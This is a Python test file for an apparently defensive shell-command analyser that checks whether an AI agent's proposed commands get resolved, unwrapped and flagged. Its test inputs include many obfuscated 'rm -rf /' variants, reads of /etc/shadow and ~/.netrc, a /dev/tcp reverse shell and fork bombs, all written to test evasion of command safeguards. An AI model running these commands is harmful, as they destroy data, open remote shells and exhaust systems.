"""What a shell text means: folding of words, the state that builtins leave, functions, aliases, redirections."""

from __future__ import annotations

import pytest

from agent.policy.request import UNKNOWN
from tests.shell.given import CWD, HOME, request


def words(text: str, program: str = "rm") -> list[tuple[str, ...]]:
    """The words of every command of that name."""
    return [found.argv[1:] for found in request(text).commands if found.program == program]


@pytest.mark.parametrize(
    "text",
    [
        "rm${IFS}-rf${IFS}/",
        "IFS=,; x=rm,-rf,/; $x",
        "x=abcrm; ${x:3:2} -rf /",
        "x=abcrm; ${x: -2} -rf /",
        "n=2; x=aarm; ${x:n} -rf /",
        "x=aarm; ${x:$((1+1))} -rf /",
        "x=armb; ${x:1:-1} -rf /",
        "x=r_m; ${x//_/} -rf /",
        "x=ram; ${x/a} -rf /",
        "x=xxm; ${x/#xx/r} -rf /",
        "x=rxx; ${x/%xx/m} -rf /",
        "x=RM; ${x,,} -rf /",
        "x=Rm; ${x,} -rf /",
        "x=rm; ${x@L} -rf /",
        "x='r\\155'; ${x@E} -rf /",
        "x=foorm; ${x#foo} -rf /",
        "x=a.b.rm; ${x##*.} -rf /",
        "x=rm.b.c; ${x%%.*} -rf /",
        "x=rmfoo; ${x%f*} -rf /",
        "x=rm12; ${x%[0-9][0-9]} -rf /",
        "y=rm; x=y; ${!x} -rf /",
        "a=(ls rm); ${a[1]} -rf /",
        "a=(ls rm); ${a[-1]} -rf /",
        'a=(rm -rf /); "${a[@]}"',
        'a=(ls rm -rf /); "${a[@]:1}"',
        'a=(); a+=(rm); a+=(-rf /); "${a[@]}"',
        "a[0]=rm; a[1]=-rf; a[2]=/; ${a[@]}",
        "x=r; x+=m; $x -rf /",
        "printf -v x '%s%s' r m; $x -rf /",
        "read x <<< rm; $x -rf /",
        "read -r a b <<< 'rm /'; $a -rf $b",
        "read -ra a <<< 'rm -rf /'; ${a[@]}",
        "mapfile -t a <<< rm; ${a[0]} -rf /",
        'while read -r p; do rm -rf "$p"; done <<< /',
        "printf '/tmp/a\\n/\\n' | while read -r p; do rm -rf \"$p\"; done",
        "unset x; : ${x:=rm}; $x -rf /",
        "x=; ${x:-rm} -rf /",
        "x=1; ${x:+rm} -rf /",
        "x=a; ${x:+rm} ${x:+-rf} /",
        "$'\\x72\\u006d' -rf /",
        'set -- rm -rf /; "$@"',
        'set -- rm -rf /; eval "$*"',
        "set -- a rm -rf /; shift; $@",
        'set -- a / ; rm -rf "${@:2}"',
        'f() { local c=$1; shift; $c -rf "$@"; }; f rm /',
        "r\\\nm -rf \\\n/",
        "cat <<E | sh\nr\\\nm -rf /\nE",
        "x=rm eval '$x -rf /'",
        "d=/ sh -c 'rm -rf $d'",
        "export d=/; sh -c 'rm -rf $d'",
        "set -a; d=/; sh -c 'rm -rf $d'",
        "env d=/ sh -c 'rm -rf $d'",
        "rm -rf /$((1-1))/..",
        "[[ -n $(rm -rf /) ]]",
        "(( x = $(rm -rf /; echo 1) ))",
        "case $(rm -rf /) in *) ;; esac",
        "echo ${x:-$(rm -rf /)}",
        "a[$(rm -rf /)]=1",
        "select x in a; do rm -rf /; done",
        "coproc rm -rf /",
        "trap -- 'rm -rf /' EXIT",
        "python3 <<E\nimport os\nos.system('rm -rf $((0))/')\nE\nrm -rf /",
    ],
)
def test_constants_are_folded_away(text: str) -> None:
    assert any({"/", "/0/.."} & set(found) for found in words(text)), request(text).commands


@pytest.mark.parametrize(
    "text",
    [
        "x=abc; ${x:$N:2} /",
        "x=r/a/m; ${x//\\/*\\//} -rf /",
        "{rm,-rf,/}",
        "x=rm; ${x/@(r)/l} /",
        "x=rm; ${x@P} /",
        "x=rm; ${x/r/&} /",
        "${!x} /",
        "${!x@} /",
        "a=(ls rm); ${a[$N]} /",
        "declare -A a=([k]=rm); ${a[k]} /",
        "declare -n y=x; x=rm; $y /",
        "IFS=$X; x=rm,/; $x",
        "read x; $x /",
        "read -n 2 x <<< rmx; $x /",
        "IFS=, read a b <<< rm,/; $a $b",
        "getopts a x; $x /",
        "shift $N; $1 /",
        "for i in 1 2 3 4 5; do $a -rf /; a=$b; b=$c; c=$d; d=rm; done",
        'f(){ [ -z "$2" ] && { $1 -rf /; return; }; shift; f "$@"; }; f a b c d e g rm',
        "x=*; $x",
        "x=rm; unset $N; ${y:-$x$z} /",
        "d=/; sh -c '$d/x'",
    ],
)
def test_a_word_that_cannot_be_folded_with_certainty_is_unverifiable(text: str) -> None:
    assert request(text).unverifiable is not None


@pytest.mark.parametrize(
    ("text", "directories"),
    [
        ("cd /a && rm x", {"/a"}),
        ("cd /a; rm x", {"/a", CWD}),
        ("cd /a && cd b && cd .. && rm x", {"/a"}),
        ("cd /a && cd /b && cd - && rm x", {"/a"}),
        ("cd && rm x", {HOME}),
        ("cd ~ && rm x", {HOME}),
        ("HOME=/h; cd && rm x", {"/h"}),
        ("cd $(pwd)/x && rm x", {None}),
        ("cd $N && rm x", {None}),
        ("pushd /a && pushd /b && popd && rm x", {"/a"}),
        ("pushd /a; popd; rm x", {CWD, "/a"}),
        ("pushd /a && pushd && rm x", {CWD}),
        ("popd && rm x", {CWD}),
        ("CDPATH=/ && cd etc && rm x", {None}),
        ("CDPATH=/ cd etc && rm x", {None}),
        ("CDPATH=/ && cd ./etc && rm x", {f"{CWD}/etc"}),
        ("(cd /a); rm x", {CWD}),
        ("cd /a | cat; rm x", {CWD}),
        ("cd /a & rm x", {CWD}),
        ("{ cd /a; } && rm x", {"/a"}),
        ("command cd /a && rm x", {"/a"}),
        ("builtin cd /a && rm x", {"/a"}),
        ("eval 'cd /a' && rm x", {"/a"}),
        ("f() { cd /a; }; f && rm x", {"/a"}),
        ("cd /a || exit; rm x", {"/a"}),
        ("if cd /a; then rm x; fi", {"/a"}),
        ("env -C /a rm x", {"/a"}),
        ("while :; do cd ..; rm x; done", {None, CWD, CWD.rpartition("/")[0]}),
    ],
)
def test_commands_run_where_cd_left_the_shell(text: str, directories: set[str | None]) -> None:
    found = {found.cwd for found in request(text).commands if found.program == "rm"}
    assert directories <= found
    assert len(directories) > 1 or found == directories


@pytest.mark.parametrize(
    ("text", "programs"),
    [
        ("rm() { :; }; rm -rf /", {":"}),
        ("rm() { :; }; command rm -rf /", {":", "command", "rm"}),
        ("rm() { :; }; sudo rm -rf /", {":", "sudo", "rm"}),
        ("rm() { :; }; \\rm -rf /", {":"}),
        ("rm() { :; }; sh -c 'rm -rf /'", {":", "sh", "rm"}),
        ("rm() { :; }; unset -f rm; rm -rf /", {"unset", "rm"}),
        ("if x; then rm() { :; }; fi; rm -rf /", {"x", ":", "rm"}),
        ("false && rm() { :; }; rm -rf /", {"false", ":", "rm"}),
        ("alias rm=echo; rm -rf /", {"alias", "echo", "rm"}),
        ("alias q='rm -rf'; q /", {"alias", "rm", "q"}),
        ("f() { rm x; }", {"rm"}),
        ("f() { g; }; g() { rm x; }; f", {"rm"}),
        ("time f; f() { rm x; }", {"time", "f", "rm"}),
        ("f() { rm x; }; time f", {"time", "rm"}),
    ],
)
def test_functions_and_aliases_hide_nothing(text: str, programs: set[str]) -> None:
    assert {found.program for found in request(text).commands} == programs


def test_a_function_is_followed_with_the_arguments_of_every_call() -> None:
    calls = "".join(f"f {name}; " for name in "abcdefgh")
    assert words(f'f() {{ rm -rf "$1"; }}; {calls} f /') == [("-rf", name) for name in "abcdefgh/"]


@pytest.mark.parametrize(
    ("text", "program", "assignments"),
    [
        ("A=1 ls", "ls", (("A", "1"),)),
        ("A=1 B=$A ls", "ls", (("A", "1"), ("B", "1"))),
        ("env A=1 ls", "ls", (("A", "1"),)),
        ("export A=1; ls", "ls", (("A", "1"),)),
        ("A=1; export A; ls", "ls", (("A", "1"),)),
        ("export A; A=1; ls", "ls", (("A", "1"),)),
        ("declare -x A=1; B=2; ls", "ls", (("A", "1"),)),
        ("typeset -gx A=1; ls", "ls", (("A", "1"),)),
        ("set -a; A=1; ls", "ls", (("A", "1"),)),
        ("A=1; ls", "ls", ()),
        ("export A=1; unset A; ls", "ls", ()),
        ("export A=1; export -n A; ls", "ls", ()),
        ("A=1 true; ls", "ls", ()),
        ("(export A=1); ls", "ls", ()),
        ("PATH=/x:/y; ls", "ls", (("PATH", "/x:/y"),)),
        ("export A=$(x); ls", "ls", (("A", UNKNOWN),)),
        ("if x; then export A=1; else export A=2; fi; ls", "ls", (("A", "1"), ("A", "2"))),
        ("export A=1; sudo ls", "ls", (("A", "1"),)),
        ("export A=1; sh -c ls", "ls", (("A", "1"),)),
        ("f() { ls; }; A=1 f", "ls", (("A", "1"),)),
        ("eval 'export A=1'; ls", "ls", (("A", "1"),)),
    ],
)
def test_a_command_says_what_the_text_put_into_its_environment(
    text: str, program: str, assignments: tuple[tuple[str, str], ...]
) -> None:
    (found,) = {found.assignments for found in request(text).commands if found.program == program}
    assert found == assignments


@pytest.mark.parametrize(
    ("text", "program", "redirects"),
    [
        ("> /etc/x", "", ((">", "/etc/x"),)),
        (">> ~/.bashrc", "", ((">>", f"{HOME}/.bashrc"),)),
        ("{ echo a; } > /etc/x", "", ((">", "/etc/x"),)),
        ("(echo a) &> /etc/x", "", (("&>", "/etc/x"),)),
        ("if true; then a; fi > /etc/x", "", ((">", "/etc/x"),)),
        ("while read l; do a; done < ~/.netrc", "", (("<", f"{HOME}/.netrc"),)),
        ("f() { ls; } > /etc/x; f", "", ((">", "/etc/x"),)),
        ("f() { ls; }; f > /etc/x", "", ((">", "/etc/x"),)),
        ("x=$(< /etc/shadow)", "", (("<", "/etc/shadow"),)),
        ("exec > /etc/x", "exec", ((">", "/etc/x"),)),
        ("exec 3<>/dev/tcp/192.0.2.1/80", "exec", (("3<>", "/dev/tcp/192.0.2.1/80"),)),
        ("cat < /dev/tcp/192.0.2.1/80", "cat", (("<", "/dev/tcp/192.0.2.1/80"),)),
        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "bash", ((">&", "/dev/tcp/192.0.2.1/80"), ("0>&", "1"))),
        ("bash -c 'a; b' > /etc/x", "bash", ((">", "/etc/x"),)),
        ("p=/etc; echo > $p/x", "echo", ((">", "/etc/x"),)),
        ("cd /etc && echo > x", "echo", ((">", "x"),)),
        ("eval 'echo a' > /etc/x", "eval", ((">", "/etc/x"),)),
        ("cat <<E > /etc/x\na\nE", "cat", ((">", "/etc/x"),)),
    ],
)
def test_every_redirection_is_on_a_command_or_stands_alone(
    text: str, program: str, redirects: tuple[tuple[str, str], ...]
) -> None:
    assert redirects in [found.redirects for found in request(text).commands if found.program == program]


@pytest.mark.parametrize(
    "text",
    [
        ":(){ :|:& };:",
        ":(){ :|: & }; :",
        "bomb() { bomb | bomb & }; bomb",
        "f() { f & f; }; f",
        "f() { f | f; }",
        "a() { b | b; }; b() { a | a; }; a",
        "bash -c ':(){ :|:& };:'",
        "function f { (f) & (f) & }; f",
    ],
)
def test_a_function_that_starts_itself_twice_at_once_is_a_fork_bomb(text: str) -> None:
    assert "<fork-bomb>" in {found.program for found in request(text).commands}


@pytest.mark.parametrize(
    "text",
    [
        "walk() { for d in $1/*; do walk $d & done; }; walk x",
        "fact() { fact $(($1-1)); }; fact 5",
        "f() { a | b; f; }; f",
        "f() { ls | sort; }; f | f & f",
    ],
)
def test_recursion_is_no_fork_bomb(text: str) -> None:
    assert "<fork-bomb>" not in {found.program for found in request(text).commands}


def test_the_tree_says_how_each_command_was_found() -> None:
    asked = request('f() { rm "$1"; }; sudo sh -c "ls $(pwd)"; f x')
    lines = [(line.depth, line.what, line.text) for line in asked.understood]
    assert lines == [
        (0, "command", "sudo sh -c ls <unknown>"),
        (1, "substitution", "$(pwd)"),
        (1, "command", "pwd"),
        (1, "unwrapped by sudo", "sh -c ls <unknown>"),
        (2, "text run by sh", "ls <unknown>"),
        (3, "unwrapped by sh", "ls <unknown>"),
        (0, "function", "f x"),
        (1, "command", "rm x"),
        (0, "unknown", "a shell runs text that is not known before it runs"),
    ]
    for line in asked.understood:
        if line.command is not None:
            assert " ".join(asked.commands[line.command].argv).replace(UNKNOWN, "<unknown>") == line.text


def test_the_tree_is_bounded_and_says_so() -> None:
    lines = request("; ".join(f"echo {number}" for number in range(900))).understood
    assert len(lines) == 501
    assert lines[-1].text == "more than fits here"
